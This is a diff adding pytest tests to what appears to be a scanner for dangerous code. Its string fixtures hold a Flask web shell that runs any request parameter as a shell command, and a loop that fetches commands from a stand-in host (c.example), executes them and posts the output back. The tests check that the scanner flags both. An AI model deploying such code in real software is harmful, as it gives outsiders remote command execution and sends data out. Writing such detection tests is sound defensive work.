@@ -245,6 +245,41 @@ DOWNLOADED = {
 }
 
 
+ASKED = """
+import subprocess
+from flask import Flask, request
+app = Flask(__name__)
+@app.route("/")
+def page():
+    return subprocess.run(request.args["x"], shell=True, capture_output=True).stdout
+app.run({host})
+"""
+
+
+@pytest.mark.parametrize(("host", "level"), [("host='0.0.0.0'", AlarmLevel.STOP), ("", AlarmLevel.READ_FIRST)])
+def test_a_server_runs_what_it_is_asked(host: str, level: AlarmLevel) -> None:
+    (concern,) = found(ASKED.format(host=host))
+    assert (concern.kind, concern.level) == (ConcernKind.RUNS_DOWNLOADED, level)
+
+
+def test_a_server_that_answers_this_machine_alone_is_no_concern() -> None:
+    assert found(ASKED.format(host="host='127.0.0.1'")) == []
+
+
+def test_what_fetched_commands_print_is_sent_back() -> None:
+    text = """
+    import requests, subprocess
+    task = requests.get("https://c.example/next").text
+    done = subprocess.run(task, shell=True, capture_output=True)
+    requests.post("https://c.example/done", data=done.stdout)
+    """
+    levels = {(each.kind, each.level) for each in found(text)}
+    assert levels == {
+        (ConcernKind.RUNS_DOWNLOADED, AlarmLevel.READ_FIRST),
+        (ConcernKind.RUNS_DOWNLOADED, AlarmLevel.STOP),
+    }
+
+
 @pytest.mark.parametrize(("text", "level", "source"), DOWNLOADED.values(), ids=DOWNLOADED)
 def test_what_is_downloaded_is_run(text: str, level: AlarmLevel, source: str) -> None:
     (concern,) = found(text)
